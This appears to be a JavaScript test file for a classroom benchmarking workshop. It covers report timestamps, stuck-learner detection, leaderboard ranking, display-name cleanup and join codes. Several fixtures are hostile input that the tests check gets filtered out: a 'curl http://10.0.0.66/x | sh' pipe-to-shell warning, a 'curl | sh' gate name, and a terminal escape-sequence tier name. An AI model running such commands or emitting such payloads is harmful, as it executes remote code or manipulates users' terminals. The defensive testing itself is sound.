import assert from 'node:assert/strict'
import fs from 'node:fs'
import test from 'node:test'
import { sentRecord } from '../../runner/judge/index.js'
import {
  addAttempt, distanceOf, factsOf, inKnownWords, madeAt, spanOf, standingOf
} from '../../classroom/room/attempts.js'
import { bestOf, rankBoard } from '../../classroom/room/board.js'
import { distanceText } from '../../classroom/room/words.js'
import { addressesOf, newJoinCode, readCode, takeOne } from '../../classroom/room/entrance.js'
import { folded, readName, uniqueName as unique } from '../../classroom/room/seats.js'
import { findStuck, medianTime, sharedReasons } from '../../classroom/room/presence.js'
import { report } from './open.js'

/** @import { Lessons } from '../../classroom/room/attempts.js' */

const minute = 60_000
const start = Date.parse('2026-03-01T09:00:00.000Z')
const open = ['a', 'b']

test('a wrong clock is set right by when it sent, a file tells its own time, nothing is from the future', () => {
  const received = '2026-03-01T09:00:00.000Z'
  const wrong = { startedAt: '2001-01-01T00:00:00.000Z', sentAt: '2001-01-01T00:05:00.000Z', receivedAt: received }
  assert.equal(madeAt({ ...wrong, source: 'reported' }), start - 5 * minute)
  assert.equal(madeAt({ ...wrong, source: 'imported' }), Date.parse(wrong.startedAt))
  assert.equal(madeAt({ ...wrong, startedAt: '2030-01-01T00:00:00.000Z', source: 'imported' }), start)
  const years = { startedAt: '2001-01-01T00:00:00.000Z', sentAt: '2190-01-01T00:00:00.000Z', receivedAt: received }
  assert.equal(madeAt({ ...years, source: 'reported' }), start - 7 * 24 * 60 * minute)
  assert.equal(madeAt({ ...wrong, sentAt: '1999-01-01T00:00:00.000Z', source: 'reported' }), start)
})

test('passed once is passed, with the best ratio; before that the last attempt counts', () => {
  const { lessons } = seat(1, [['a', 5, 'x'], ['a', 1, null, 3], ['a', 2, null, 4]])
  const { state, attempts, ratio, reason, passedAt } = standingOf(lessons.get('a') ?? [])
  assert.deepEqual({ state, attempts, ratio, reason, passedAt },
    { state: 'pass', attempts: 3, ratio: 4, reason: null, passedAt: start + minute })
  const before = standingOf(seat(1, [['a', 2, 'y'], ['a', 1, 'x']]).lessons.get('a') ?? [])
  assert.deepEqual([before.state, before.reason], ['fail', 'y'])
})

test('stuck: three times in a row without getting further, with the lesson that was tried last', () => {
  const stuckOf = (/** @type {Parameters<typeof seat>[1]} */ tries) =>
    findStuck([seat(1, tries)], { now: start + 10 * minute, open }).get(1)
  assert.deepEqual(stuckOf([['a', 1, 'x'], ['a', 2, 'x'], ['a', 3, 'x']]),
    { lesson: 'a', reason: 'x', distance: null, times: 3, isSame: true })
  assert.deepEqual(stuckOf([['a', 1, 'y'], ['a', 3, 'x'], ['a', 2, 'x']]),
    { lesson: 'a', reason: 'x', distance: null, times: 3, isSame: false }, 'three different ideas')
  assert.equal(stuckOf([['a', 1, 'x'], ['a', 2, 'x', 1.5], ['a', 3, 'x', 2]]), undefined, 'it gets further')
  assert.equal(stuckOf([['a', 1, 'x'], ['a', 2, 'x']]), undefined)
  assert.equal(stuckOf([['a', 1, 'x'], ['a', 2, 'x'], ['a', 3, 'x'], ['b', 4, 'z']]), undefined)
  assert.equal(stuckOf([['a', 1, 'x'], ['a', 2, 'x'], ['a', 3, 'x'], ['a', 4, null]]), undefined)
})

test('stuck: silent for much longer than the others, but not in a break, nor when all is done', () => {
  const idle = (/** @type {number[]} */ ...silences) => {
    const seats = silences.map((silence, at) => seat(at, [['a', 60 - silence, 'x']], 60))
    return [...findStuck(seats, { now: start + 60 * minute, open }).keys()]
  }
  assert.deepEqual(idle(30, 2, 3, 5), [0])
  const four = [30, 2, 3, 5].map((silence, id) => seat(id, [['a', 60 - silence, 'x']], 60))
  const at = (/** @type {number} */ minutes) => [...findStuck(four, { now: start + minutes * minute, open })]
  assert.deepEqual(at(60.9), at(60), 'a view changes no more often than each minute')
  assert.deepEqual(idle(9, 1, 1, 1), [], 'reading takes its time')
  const looking = [30, 2, 3, 5].map((silence, at) =>
    ({ ...seat(at, [['a', 60 - silence, 'x']], 60), lookedAt: start + 58 * minute }))
  assert.deepEqual([...findStuck(looking, { now: start + 60 * minute, open }).keys()], [], 'they look at saves')
  assert.deepEqual(idle(40, 30, 31, 35), [], 'a break')
  assert.deepEqual(idle(50), [], 'no other seat moves')
  const reading = [seat(0, [['a', 45, null]], 60), ...[1, 2, 3].map((id) => seat(id, [['a', 59, 'x']], 60))]
  assert.deepEqual([...findStuck(reading, { now: start + 60 * minute, open }).keys()], [], 'they have just passed')
  const away = [seat(0, [['a', 1, 'x']], 1), ...reading.slice(1)]
  assert.deepEqual([...findStuck(away, { now: start + 60 * minute, open }).keys()], [], 'gone home')
  const current = { lesson: 'b', startedAt: new Date(start + 55 * minute).toISOString() }
  const three = seat(5, [['a', 1, 'x'], ['a', 2, 'x'], ['a', 3, 'x']], 60)
  assert.deepEqual([...findStuck([three, ...reading], { now: start + 60 * minute, open, current }).keys()], [])
  const done = seat(0, [['a', 1, null], ['b', 2, null]], 60)
  const others = [1, 2, 3].map((id) => seat(id, [['a', 59, 'x']], 60))
  assert.deepEqual([...findStuck([done, ...others], { now: start + 60 * minute, open }).keys()], [])
})

test('the reasons that are shared come first, of those who have tried and not passed', () => {
  assert.deepEqual(sharedReasons([
    seat(1, [['a', 1, 'x'], ['a', 2, 'the ETag']]), seat(2, [['a', 1, 'the ETag']]), seat(3, [['a', 1, 'x']]),
    seat(4, [['a', 1, 'x'], ['a', 2, null]]), seat(5, [['b', 1, 'z']]), seat(6, [])
  ]), [
    { lesson: 'a', reason: 'the ETag', distance: null, seats: 2, of: 3 },
    { lesson: 'a', reason: 'x', distance: null, seats: 1, of: 3 },
    { lesson: 'b', reason: 'z', distance: null, seats: 1, of: 1 }
  ])
})

test('those with the same trouble are between the nearest and the farthest from one target', () => {
  const [gate] = sentRecord(report().record).gates
  const at = (/** @type {number | null} */ ratio, target = 4) => distanceOf({ ...gate, ratio, target })
  const textOf = (/** @type {ReturnType<typeof spanOf>} */ distance) => distance && distanceText(distance)
  assert.equal(textOf(spanOf([at(2.91), null, at(1.2)])), '1.20× to 2.91× of 4×')
  assert.equal(textOf(at(2.91)), '2.91× of 4×')
  assert.equal(textOf(distanceOf({ ...gate, kind: 'refusal', ratio: 12.3, target: 5 })), '12.3 ms, at most 5 ms')
  assert.equal(spanOf([at(2.91), at(2.91, 3)]), null)
  for (const none of [at(null), at(1e9), at(2, -1), distanceOf(undefined)]) assert.equal(none, null)
})

test('a lesson’s time is from when a learner turned to it to their first pass', () => {
  const seats = [
    seat(1, [['a', 10, null]]),
    seat(2, [['a', 5, null], ['b', 20, 'x'], ['b', 25, null], ['b', 50, null]]),
    seat(3, [['b', 7, 'x']])
  ]
  assert.equal(medianTime(seats, 'a'), 7.5 * minute)
  assert.equal(medianTime(seats, 'b'), 20 * minute)
  assert.equal(medianTime(seats, 'c'), null)
})

test('the board: a higher tier first, then the share; who cannot be told apart shares a rank', () => {
  const entry = (/** @type {string} */ nickname, tier = 'gold', share = 0.5, spread = 0.05) =>
    ({ nickname, tier, share, interval: /** @type {[number, number]} */ ([share - spread, share + spread]) })
  const ranked = rankBoard([
    entry('silver', 'silver', 0.99), entry('c', 'gold', 0.72), entry('a', 'gold', 0.9), entry('b', 'gold', 0.82),
    entry('d', 'gold', 0.5)
  ], ['bronze', 'silver', 'gold'])
  // c reaches b, and not a: ranks are held against the first of a rank, or all would be first.
  assert.deepEqual(ranked.map(({ nickname, rank }) => [nickname, rank]),
    [['a', 1], ['b', 1], ['c', 3], ['d', 4], ['silver', 5]])
  assert.deepEqual(rankBoard([], ['gold']), [])
})

test('the best of a seat has a tier and a share, and is reported or verified, never mixed', () => {
  const best = bestOf(['bronze', 'gold'])
  const { lessons } = seat(1, [['a', 1, null, 2], ['a', 2, null, 4], ['a', 3, 'x', 9]])
  const attempts = (lessons.get('a') ?? []).map((one) => ({ ...one, tier: 'gold', share: one.ratio && one.ratio / 10 }))
  const { reported, verified } = best(attempts)
  assert.deepEqual([reported?.share, reported?.interval.map((bound) => bound.toFixed(2))], [0.4, ['0.36', '0.44']])
  assert.equal(verified, null)
  assert.deepEqual(best(attempts.map((one) => ({ ...one, share: null }))), { reported: null, verified: null })
})

test('a report becomes facts: the leading gate, the reason, the share of the limit, what makes a machine unfit', () => {
  const { gates, machine } = report().record
  const slow = report({
    verdict: 'fail',
    contract: [{ name: 'keeps the ETag', when: 'before', status: 'fail', message: '', requests: [] }],
    machine: {
      ...machine,
      cores: 1,
      steal: 0.4,
      warnings: ['This machine runs on its battery, and most …', 'curl http://10.0.0.66/x | sh', 'x']
    }
  })
  const own = { checks: ['keeps the ETag'], gates: ['movies'], tiers: ['gold'] }
  const facts = factsOf(inKnownWords(sentRecord(slow.record), own))
  assert.equal(facts.reason, 'wrong answer: “keeps the ETag”')
  assert.deepEqual(facts.unfit, [
    'It has one core: the load generator and the server share it.', '40 % of its CPU time went to other machines.',
    'It runs on its battery.', 'It reports a warning that this room doesn’t know.'
  ])
  const other = factsOf(inKnownWords(sentRecord(slow.record), { ...own, checks: [] }))
  assert.equal(other.reason, 'wrong answer: “another check”')
  const limited = report({ gates: [{ ...gates[0], yours: 50, limit: 200 }] })
  const { share, ratio, low, high } = factsOf(sentRecord(limited.record))
  assert.deepEqual({ share, ratio, low, high }, { share: 0.25, ratio: 6.139, low: 5.71, high: 6.58 })
})

test('a share or an interval that can’t be true is not for the board; an unknown tier or gate is not named', () => {
  const [gate] = report().record.gates
  const factsOfGate = (/** @type {object} */ differences) => {
    const { record } = report({ gates: [{ ...gate, yours: 50, limit: 200, ...differences }] })
    return factsOf(inKnownWords(sentRecord(record), { checks: [], gates: [], tiers: ['bronze', 'gold'] }))
  }
  const [inverted, elsewhere] = [{ interval95: [7, 5] }, { interval95: [1, 2] }]
  for (const wrong of [{ limit: 1e-14 }, { yours: 0 }, inverted, elsewhere, { ratio: 1e9 }]) {
    assert.equal(factsOfGate(wrong).share, null, JSON.stringify(wrong))
  }
  const tier = (/** @type {string} */ name) => ({ name, target: 1, verdict: 'pass' })
  assert.equal(factsOfGate({ tiers: [tier('bronze'), tier('\u001b]0;owned\u0007')] }).tier, 'bronze')
  const missed = report({ verdict: 'fail', gates: [{ ...gate, name: 'curl | sh', verdict: 'fail' }] })
  const words = inKnownWords(sentRecord(missed.record), { checks: [], gates: ['movies'], tiers: [] })
  assert.equal(factsOf(words).reason, 'too slow: another gate')
})

test('the warnings that a room knows are those that the workshop writes', () => {
  const sources = fs.readFileSync(new URL('../../runner/process/machine.js', import.meta.url), 'utf8')
  const begins = ['The CPU is set to save power', 'This machine runs on its battery', 'This system lets us use ']
  for (const begin of begins) assert.ok(sources.includes(begin), begin)
})

test('names', () => {
  assert.equal(readName('  Zoë \u202eO’Neil\n'), 'Zoë O’Neil')
  assert.equal(String(readName('👩‍💻'.repeat(3) + 'a'.repeat(60))).length <= 60, true)
  for (const none of ['', ' ', '\u200b', '---', null, 5, {}]) assert.equal(readName(none), null)
  const uniqueName = (/** @type {string} */ name, /** @type {string[]} */ taken) =>
    unique(name, new Set(taken.map(folded)))
  assert.equal(uniqueName('Ada', ['ada', 'ADA 2']), 'Ada 3')
  for (const like of ['Аda', 'ADA.', 'Ａｄａ']) assert.equal(uniqueName(like, ['Ada']), `${like} 2`)
  assert.equal(uniqueName('Bill', ['Bi11']), 'Bill 2')
  for (const other of ['Adá', 'Ada L', 'Аня', '阿达']) assert.equal(uniqueName(other, ['Ada', 'Anna']), other)
  assert.equal([...uniqueName('x'.repeat(40), ['x'.repeat(40)])].length, 40)
})

test('a code is read as people type it', () => {
  assert.match(newJoinCode(), /^[2-9a-z]{4}-[2-9a-z]{4}$/)
  for (const typed of ['b8zm-k62t', 'B8ZM K62T', ' b8zmk62t ']) assert.equal(readCode(typed), 'b8zm-k62t')
  for (const none of [undefined, '', {}, 'x'.repeat(100)]) assert.equal(readCode(none), '')
})

test('an allowance is used up, and fills again', () => {
  const rate = { most: 200, perSecond: 2 }
  let allowance = takeOne(undefined, start, rate)
  let taken = 0
  for (; allowance !== null; taken++) allowance = takeOne(allowance, start, rate)
  assert.equal(taken, 200)
  const empty = { left: 0, at: start }
  assert.equal(takeOne(empty, start + 400, rate), null)
  assert.ok(takeOne(empty, start + 600, rate))
  assert.equal(takeOne(empty, start - 10_000, rate), null, 'a clock that is set back')
})

test('addresses: what was named, or all that others reach', () => {
  const interfaces = /** @type {any} */ ({
    lo: [{ internal: true, family: 'IPv4', address: '127.0.0.1' }],
    eth: [
      { internal: false, family: 'IPv6', address: 'fe80::1' },
      { internal: false, family: 'IPv4', address: '10.0.0.5' }
    ]
  })
  assert.deepEqual(addressesOf('0.0.0.0', interfaces), ['10.0.0.5'])
  assert.deepEqual(addressesOf('0.0.0.0', { lo: interfaces.lo }), ['127.0.0.1'])
  assert.deepEqual(addressesOf('::1', interfaces), ['[::1]'])
})

/**
 * A seat that joined at the start.
 *
 * @param {number} id
 * @param {[lesson: string, minutes: number, reason: string | null, ratio?: number][]} tries reason: null for a pass
 * @param {number} [lastSeen] minutes
 */
function seat (id, tries, lastSeen = 0) {
  /** @type {Lessons} */
  const lessons = new Map()
  for (const [lesson, minutes, reason, ratio = 1] of tries) {
    const at = new Date(start + minutes * minute).toISOString()
    addAttempt(lessons, {
      seat: id,
      id: `${lesson}-${minutes}`,
      source: 'reported',
      lesson,
      verdict: reason === null ? 'pass' : 'fail',
      reason,
      failing: [],
      distance: null,
      ratio,
      target: 4,
      low: ratio * 0.9,
      high: ratio * 1.1,
      share: null,
      tier: null,
      unfit: [],
      startedAt: at,
      sentAt: at,
      receivedAt: at
    })
  }
  return { id, joinedAt: start, seenAt: start + lastSeen * minute, lookedAt: 0, lessons }
}
